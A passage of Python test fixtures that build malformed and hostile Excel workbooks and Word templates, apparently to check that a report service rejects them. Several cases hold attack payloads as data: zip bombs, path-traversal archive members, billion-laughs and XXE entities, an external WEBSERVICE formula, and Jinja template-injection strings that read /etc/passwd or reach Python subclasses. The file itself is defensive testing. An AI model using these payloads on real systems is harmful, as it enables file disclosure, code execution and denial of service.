        "report_of_dates": lambda: _report_cell("E22", '<c r="@" t="d"><v>2023-05-15</v></c>'),
    },
    "formula-uncalculated": {
        "formula_never_calculated": lambda: _cell(
            _F.RESULT, f'<c r="@"><f>WEBSERVICE("{_away()}/")</f><v></v></c>'
        ),
        "report_never_calculated": lambda: _report_cell("D4", '<c r="@"><f>SUM(E4:H4)</f></c>'),
    },
    "yes-no-malformed": {
        "neither_true_nor_false": lambda: _cell(_F.EXEMPT, '<c r="@" t="b"><v>maybe</v></c>')
    },
    "error-cell": {
        "date_out_of_range": lambda: _cell(_F.TERM, '<c r="@" s="1"><v>9999999999</v></c>'),
        "report_of_an_excel_error": lambda: _report_cell("E4", '<c r="@" t="e"><v>#REF!</v></c>'),
    },
    "date-malformed": {
        "date_without_a_day": lambda: _cell(
            _F.TERM, '<c r="@" t="d"><v>2023-02-31T99:99:99</v></c>'
        ),
    },
    "year-malformed": {
        "year_of_five_thousand_digits": lambda: _of_body({BodyField.YEAR: "9" * 5_000})
    },
    "report-row-twice": {
        "report_of_one_line_again_and_again": lambda: _report(
            _lines(), [[None, _LONGEST_LINE]] * 8_000
        ),
        "report_twice": lambda: _report(_lines(), _lines()),
    },
    "header-missing": {
        # one too few
        "report_of_two_heads_in_every_row": lambda: _report(
            [["Көрсеткіштер", "мемлекеттік мекемелер"]] * 30_000
        ),
        "report_without_heads": lambda: _report(_lines()[2:]),
    },
    "report-row-missing": {"report_of_heads_alone": lambda: _report(_lines()[:2])},
    "required-merged": {
        "report_under_merged_cells": lambda: _merged("D3:H32", data=_sound_report())
    },
    "header-merged": {
        "report_of_merged_heads": lambda: _merged(
            "E2:F2", "G2:H2", *(f"A{n}:H{n}" for n in range(100, 2_096)), data=_sound_report()
        ),
    },
    "number-negative": {"report_below_zero": lambda: _report_cell("E22", '<c r="@"><v>-1</v></c>')},
}
_register(WORKBOOKS, _WORKBOOKS)


_TEMPLATES: Mapping[str, Mapping[str, Maker]] = {
    FINE: {
        # the others are refused for their faults
        "our_own_template": sound_template,
        "template_members_outside": lambda: _put_in_template(
            {"../../evil.xml": b"<a/>", "/tmp/evil.xml": b"<a/>"}
        ),
    },
    "template-too-large": {
        "bomb_in_document": lambda: _bombed(DOCUMENT, 2048, data=sound_template()),
        "bomb_in_template_styles": lambda: _bombed("word/styles.xml", 10, data=sound_template()),
        "bomb_in_template_picture": lambda: _bombed(
            "word/media/image1.png", 100, data=sound_template()
        ),
        "template_of_many_members": lambda: _beside(
            *((f"word/media/{n}", b"") for n in range(10_000)), data=sound_template()
        ),
        "template_of_many_paragraphs": lambda: with_markup(_paragraph("а" * 2_000) * 1_000),
        "thousands_of_tags": lambda: with_markup('<w:p w:rsidR="1"/>' + "{%p a %}" * 30_000),
    },
    "template-damaged": {
        "cell_of_a_strange_width": lambda: with_markup(
            _table_of("", '<w:tcPr><w:gridSpan w:val="көп"/></w:tcPr>')
        ),
        "nested_elements": lambda: with_markup("<w:p>" * 100_000 + "</w:p>" * 100_000),
        "lying_document": lambda: _bombed(
            DOCUMENT, 2048, told=1000, crc=_SUM_OF_1000, data=sound_template()
        ),
        "lying_template_picture": lambda: _bombed(
            "word/media/image1.png", 2048, told=1000, crc=_SUM_OF_1000, data=sound_template()
        ),
        "laughs_in_document": lambda: _with_doctype(DOCUMENT, _LAUGHS, data=_document("&lol9;")),
        "another_file_in_document": lambda: _with_doctype(
            DOCUMENT, _SECRET_ENTITY, data=_document("&xxe;")
        ),
        "laughs_in_template_types": lambda: _with_doctype(TYPES, _LAUGHS, data=sound_template()),
        "laughs_in_template_in_utf_16": lambda: _in_utf_16(
            "word/styles.xml", _with_doctype("word/styles.xml", _LAUGHS, data=sound_template())
        ),
        "no_document": lambda: _without(sound_template(), DOCUMENT),
        "no_template_relations": lambda: _without(sound_template(), RELATIONS),
        "wrong_sum_in_document": lambda: _lying(DOCUMENT, sound_template(), crc=7),
        "truncated_template": lambda: _cut(sound_template(), 1 / 2),
        "forbidden_character": lambda: _document("а&#0;б"),
    },
    "template-ambiguous": {
        "document_twice": lambda: _beside(
            ("WORD/Document.xml", unzipped(sound_template())[DOCUMENT]), data=sound_template()
        ),
    },
    "template-other-format": {
        "no_template_types": lambda: _without(sound_template(), TYPES),
        "document_elsewhere": lambda: _template_changed(
            RELATIONS, 'Target="word/document.xml"', _external("document.xml")
        ),
        "web_page_as_template": lambda: _WEB_PAGE,
        "empty_template": lambda: b"",
        "workbook_as_template": sound_workbook,
    },
    "template-encrypted": {"encrypted_template": lambda: _ENCRYPTED},
    "template-old-format": {"old_template": lambda: _OLE + b"\0" * 4000},
    "template-no-edition": {
        "template_of_no_edition": lambda: _template_changed(
            "docProps/core.xml", "<cp:category>2022</cp:category>", ""
        ),
    },
    "tag-unclosed": {
        "broken_tag": lambda: _document("{{ орган.атауы"),
        # docxtpl would look for the end of each
        "thousands_of_unclosed_tags": lambda: _document("{{r " * 1_000),
        # docxtpl would divide them among three patterns
        "spaces_in_a_tag": lambda: with_markup(
            _table_of("<w:r><w:t>{% colspan" + " " * 5_000 + "</w:t></w:r>")
        ),
    },
    "tag-unsafe": {
        "broken_tag_in_header": lambda: _template_changed(
            "word/header2.xml", "</w:hdr>", f"{_paragraph('{{ a b }}')}</w:hdr>"
        ),
        # a tag of docxtpl that makes documents invalid
        "merging_tag": lambda: with_markup(
            _table_of("".join(f"<w:r><w:t>{t}</w:t></w:r>" for t in ("{", "% c", "olspan 3 %}")))
        ),
        "include": lambda: _document("{% include '../../../../etc/passwd' %}"),
        "extends": lambda: _document("{% extends 'x' %}"),
        "classes_of_python": lambda: _document("{{ ''.__class__ }}"),
        "call_of_python": lambda: _document("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        "endless_loop": lambda: _document("{% for i in range(10**9) %}{{ i }}{% endfor %}"),
        "nested_brackets": lambda: _document("{{ " + "(" * 3_000 + "a" + ")" * 3_000 + " }}"),
    },
    "tag-unknown": {
        "nested_conditions": lambda: _document("{% if a %}" * 400 + "{% endif %}" * 400)
    },
}
_register(TEMPLATES, _TEMPLATES)
